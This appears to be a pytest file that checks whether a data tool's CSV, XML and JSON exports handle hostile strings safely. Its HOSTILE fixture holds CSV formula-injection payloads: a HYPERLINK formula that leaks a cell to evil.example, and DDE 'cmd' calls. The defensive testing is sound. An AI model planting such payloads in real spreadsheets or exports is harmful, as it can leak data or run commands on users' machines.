"""Exports of hostile strings: CSV cells are not formulas, XML always parses, no partial files.

Issue 18, failure 5: titles and sentences starting with ``=``, ``+``, ``-``, ``@``
went unchanged into the CSV files. Failure 7: an actor name with a control
character crashed the GraphML export (leaving a 0-byte file) and made the GEXF
export unparseable.
"""

from __future__ import annotations

import csv
import json
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import accord
from accord.errors import AccordError
from accord.export.safe import neutralise_cell, xml_text

#: (table, column, hostile value) planted in a copy of the example store.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "sentence": "=cmd|' /C calc'!A0 and then the talks resumed",
    "mention": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor": "Ministry\x01of\x0bTrade\x1f",
}


@pytest.fixture(scope="module")
def hostile_db(example_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with sqlite3.connect(f"file:{example_db_path}?mode=ro", uri=True) as src, \
            sqlite3.connect(db) as dst:
        src.backup(dst)
    with sqlite3.connect(db) as conn:
        doc = conn.execute("SELECT id FROM documents ORDER BY id LIMIT 1").fetchone()[0]
        conn.execute("UPDATE documents SET title = ? WHERE id = ?", (HOSTILE["title"], doc))
        conn.execute("UPDATE sentences SET text = ? WHERE document_id = ? AND idx = 0",
                     (HOSTILE["sentence"], doc))
        conn.execute("UPDATE event_mentions SET text = ? WHERE rowid = "
                     "(SELECT min(rowid) FROM event_mentions)", (HOSTILE["mention"],))
        edges = [(json.loads(s or "[]"), json.loads(t or "[]"))
                 for s, t in conn.execute("SELECT source, target FROM events")]
        ent = next(src[0] for src, tgt in edges if src and tgt and src[0] not in tgt)
        conn.execute("UPDATE entities SET name = ? WHERE id = ?", (HOSTILE["actor"], ent))
    return db


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_csv_cells_are_neutralised_and_raw_keeps_them(hostile_db, tmp_path, run):
    code, _, err = run("export", "--db", hostile_db, "--format", "csv", "-o", tmp_path / "safe")
    assert code == 0, err
    code, _, err = run("export", "--db", hostile_db, "--format", "csv", "--raw-csv",
                       "-o", tmp_path / "raw")
    assert code == 0, err
    for name, key in (("documents", "title"), ("sentences", "sentence"),
                      ("event_mentions", "mention")):
        safe, raw = _cells(tmp_path / "safe" / f"{name}.csv"), _cells(tmp_path / "raw" /
                                                                       f"{name}.csv")
        assert "'" + HOSTILE[key] in safe and HOSTILE[key] not in safe, name
        assert HOSTILE[key] in raw, name
        # no cell of the safe files starts a formula
        assert [c for c in safe if c and c[0] in "=+@\t\r"] == [], name
        assert [c for c in safe if c.startswith("-") and neutralise_cell(c) != c] == [], name


@pytest.mark.parametrize("value", ["=1+2", "+cmd", "-2+3", "@x", "\tx", "\rx"])
def test_formula_starts_get_an_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25e3", "Poland", "", "a=b"])
def test_numbers_and_plain_text_stay(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_parse_with_a_control_character_in_a_name(fmt, hostile_db, tmp_path, run):
    out = tmp_path / f"net.{fmt}"
    code, _, err = run("export", "--db", hostile_db, "--format", fmt, "-o", out)
    assert code == 0, err
    root = ET.parse(out).getroot()  # raises on characters XML 1.0 does not allow
    texts = [e.text or "" for e in root.iter()] + [v for e in root.iter()
                                                   for v in e.attrib.values()]
    assert xml_text(HOSTILE["actor"]) in texts
    assert list(tmp_path.iterdir()) == [out]  # no temporary file left


def test_a_failed_export_leaves_the_previous_file_untouched(damaged_stores, tmp_path):
    from accord.export import export
    from accord.store import Store

    out = tmp_path / "kb.json"
    out.write_text("previous export\n")
    store = Store(damaged_stores["middle"], create=False, read_only=True)
    try:
        with pytest.raises(AccordError):
            export(store, "json", out)
    finally:
        store.close()
    assert out.read_text() == "previous export\n"
    assert list(tmp_path.iterdir()) == [out]


def test_json_round_trip_keeps_hostile_strings(hostile_db):
    with accord.open(hostile_db, read_only=True) as kb:
        data = kb.export("json")
    titles = [d.get("title") for d in data["documents"]]
    assert HOSTILE["title"] in titles
